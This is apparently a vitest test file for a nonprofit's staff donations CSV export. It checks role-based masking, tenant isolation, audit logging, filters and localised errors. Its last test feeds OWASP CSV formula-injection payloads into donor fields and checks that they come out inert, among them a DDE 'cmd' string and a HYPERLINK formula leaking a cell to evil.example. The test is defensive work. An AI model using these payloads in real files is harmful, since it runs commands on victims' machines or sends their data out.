import { listAudit } from '@haven/db';
import { describe, expect, it } from 'vitest';
import { createTestApp } from '../support/app';
import { csvOf } from '../support/csv-download';
import { createTestDb } from '../support/db';
import { generatedPayment, paymentItem } from '../support/generated-payments';
import { batchPutItems } from '../support/raw-table';
import { formPost, signIn } from '../support/staff';

const db = await createTestDb();
const now = new Date('2026-11-25T12:00:00Z');
const app = createTestApp(db, now);
const finance = await signIn(app, db, 'finance@mpm.example.org', now);
const owner = await signIn(app, db, 'owner@mpm.example.org', now);
const fundraiser = await signIn(app, db, 'fundraiser@mpm.example.org', now);
const viewer = await signIn(app, db, 'viewer@mpm.example.org', now);
const elsewhere = await signIn(app, db, 'finance@wmpa.example.org', now);

const CAMPAIGN = 'voix-aux-nations-unies';
const options = {
  orgSlug: 'mpm',
  campaigns: [CAMPAIGN, 'archive-2025'],
  currencies: ['CHF', 'EUR'],
};
// 40 payments a minute apart from 2026-01-01 00:00 UTC; every tenth anonymous.
const payments = Array.from({ length: 40 }, (_, i) => generatedPayment(i, options));
// Three disputes, as the dispute webhooks leave their payments: open, won and lost.
const DISPUTES = { 3: 'open', 4: 'won', 5: 'lost' } as const;
for (const [index, status] of Object.entries(DISPUTES)) {
  const payment = payments[Number(index)];
  if (payment) {
    payment.disputeStatus = status;
    payment.disputed = status === 'won' ? 0 : payment.gift;
  }
}
await batchPutItems(db, payments.map(paymentItem));
// Another organisation's payment on the same days: never in mpm's files.
await batchPutItems(db, [
  paymentItem(
    generatedPayment(1_000, { ...options, orgSlug: 'wmpa', campaigns: ['mountain-voices'] }),
  ),
]);

// listAudit takes a staff scope; it reads only the organisation's part of it.
const MPM = { orgSlug: 'mpm', memberId: 'test', role: 'owner' } as const;
const YEAR = { from: '2026-01-01', to: '2026-12-31' };
const exportAs = (session: { cookie: string; csrf: string }, fields: Record<string, string>) =>
  app.request(
    '/staff/finance/exports',
    formPost({ ...fields, _csrf: session.csrf }, session.cookie),
  );

describe('the donations export', () => {
  it('is a CSV attachment, UTF-8 with BOM, never cached, one row per payment in date order', async () => {
    const response = await exportAs(finance, { kind: 'donations', ...YEAR });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="mpm_donations_2026-01-01_2026-12-31.csv"',
    );
    expect(response.headers.get('cache-control')).toContain('no-store');
    const rows = await csvOf(response);
    expect(rows.map((row) => row.pledge_id)).toEqual(payments.map((p) => p.pledgeId));
    const [first] = rows;
    expect(first).toMatchObject({
      paid_at: '2026-01-01T00:00:00.000Z',
      receipt_number: 'GEN-2026-000001',
      campaign: CAMPAIGN,
      gift: '10.00',
      fee_cover: '0.00',
      currency: 'CHF',
      gross: '10.00',
      fee: '0.59',
      net: '9.41',
      settlement_currency: 'CHF',
      refunded: '0.00',
      refund_state: 'none',
      disputed: '0.00',
      dispute_state: 'none',
      checkout_session_id: 'cs_test_00000000',
      payment_intent_id: 'pi_00000000',
      charge_id: 'ch_00000000',
    });
  });

  it('says of each payment whether it is disputed and how the dispute ended', async () => {
    const rows = await csvOf(await exportAs(finance, { kind: 'donations', ...YEAR }));
    expect(rows.slice(2, 6).map((row) => [row.dispute_state, row.disputed])).toEqual([
      ['none', '0.00'],
      ['open', '11.50'],
      ['won', '0.00'],
      ['lost', '12.50'],
    ]);
  });

  it('shows finance the names of anonymous donors, marked, and masks them for owners', async () => {
    const byFinance = await csvOf(await exportAs(finance, YEAR));
    const byOwner = await csvOf(await exportAs(owner, YEAR));
    expect(byFinance[10]).toMatchObject({
      donor_name: 'Donor 10',
      donor_email: 'donor10@example.org',
      anonymous: 'yes',
    });
    expect(byOwner[10]).toMatchObject({ donor_name: '***', donor_email: '***', anonymous: 'yes' });
    expect(byOwner[11]).toMatchObject({ donor_name: 'Donor 11', anonymous: 'no' });
    expect(JSON.stringify(byOwner)).not.toContain('donor10@example.org');
  });

  it('keeps to the days, the campaign and the currency asked for', async () => {
    // Payment i is paid at 2026-01-01 00:00 + i minutes: all of them fall on the first day.
    expect(await csvOf(await exportAs(finance, { from: '2026-01-02', to: '2026-12-31' }))).toEqual(
      [],
    );
    const oneCampaign = await csvOf(await exportAs(finance, { ...YEAR, campaign: CAMPAIGN }));
    expect(oneCampaign).toHaveLength(20);
    expect(new Set(oneCampaign.map((row) => row.campaign))).toEqual(new Set([CAMPAIGN]));
    const euros = await csvOf(await exportAs(finance, { ...YEAR, currency: 'eur' }));
    expect(euros.map((row) => row.pledge_id)).toEqual(
      payments.filter((p) => p.currency === 'EUR').map((p) => p.pledgeId),
    );
  });

  it('is in the audit log, with the filter and no personal data', async () => {
    await exportAs(finance, { ...YEAR, currency: 'CHF' });
    const entries = await listAudit(db, MPM);
    const latest = entries.find((entry) => entry.after?.currency === 'CHF');
    expect(latest).toMatchObject({
      action: 'finance.exported',
      subject: 'donations',
      actor: { role: 'finance' },
      after: { ...YEAR, currency: 'CHF' },
    });
  });

  it('refuses roles without the export permission', async () => {
    for (const session of [fundraiser, viewer]) {
      expect((await exportAs(session, YEAR)).status).toBe(403);
      const page = await app.request('/staff/finance/exports', {
        headers: { cookie: session.cookie },
      });
      expect(page.status).toBe(403);
    }
  });

  it('never reaches another organisation’s payments or campaigns', async () => {
    const theirs = await csvOf(await exportAs(elsewhere, YEAR));
    expect(theirs.map((row) => row.campaign)).toEqual(['mountain-voices']);
    const asked = await exportAs(finance, { ...YEAR, campaign: 'mountain-voices' });
    expect(asked.status).toBe(400);
    expect(asked.headers.get('content-type')).toContain('text/html');
    expect(await asked.text()).toContain('campagne');
  });

  it('answers a localised 400 for a bad period, and writes nothing to the audit log', async () => {
    const before = (await listAudit(db, MPM)).length;
    const bads: Record<string, string>[] = [
      {},
      { from: '2026-12-31', to: '2026-01-01' },
      { from: 'x', to: '2026-01-01' },
    ];
    for (const bad of bads) {
      const response = await exportAs(finance, bad);
      expect(response.status).toBe(400);
      expect(await response.text()).toContain('Choisissez un premier et un dernier jour');
    }
    expect(await listAudit(db, MPM)).toHaveLength(before);
  });

  it('offers the organisation’s campaigns and currencies on the page, in the member’s language', async () => {
    const page = await app.request('/staff/finance/exports', {
      headers: { cookie: finance.cookie },
    });
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain('lang="fr"');
    expect(html).toContain(`value="${CAMPAIGN}"`);
    expect(html).not.toContain('mountain-voices');
    expect(html).toMatch(/<input[^>]* name="currency"/);
  });

  it('makes OWASP’s formula-injection strings inert and keeps Arabic and French names intact', async () => {
    // OWASP's CSV injection payloads, and the same behind whitespace, tabs, CR and quotes.
    const hostile = [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '   =1+1',
      '=1+1\n=2+2',
    ];
    // A leading double quote is CSV quoting, read back as text: not a formula, left as it is.
    const names = [
      'أمل الحسيني',
      'Chloé Lefèvre-Brûlé',
      'Zoë « Émilie » Ñúñez',
      'نور, "الهدى"',
      '"=1+1"',
    ];
    const on = { orgSlug: 'mpm', campaigns: ['hostile-names'], currencies: ['EUR'] };
    const people = [...hostile, ...names].map((name, i) => ({
      ...generatedPayment(500 + i, on),
      paidAt: new Date(Date.UTC(2026, 5, 1, 0, i)).toISOString(),
      donorName: name,
      donorEmail: hostile[i] ?? `person${i}@example.org`,
      receiptNumber: hostile[i] ?? `MPM-2026-${i}`,
    }));
    await batchPutItems(db, people.map(paymentItem));
    const rows = await csvOf(await exportAs(finance, { from: '2026-06-01', to: '2026-06-01' }));
    expect(rows).toHaveLength(people.length);
    hostile.forEach((payload, i) => {
      expect(rows[i]).toMatchObject({
        donor_name: `'${payload}`,
        donor_email: `'${payload}`,
        receipt_number: `'${payload}`,
      });
    });
    names.forEach((name, i) => {
      expect(rows[hostile.length + i]?.donor_name).toBe(name);
    });
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^\s*[=+@\t\r]/);
      // Amounts are numbers a spreadsheet sums, never quoted text.
      for (const amount of [row.gift, row.gross, row.fee, row.net])
        expect(amount).toMatch(/^-?\d+\.\d{2}$/);
    }
  });
});
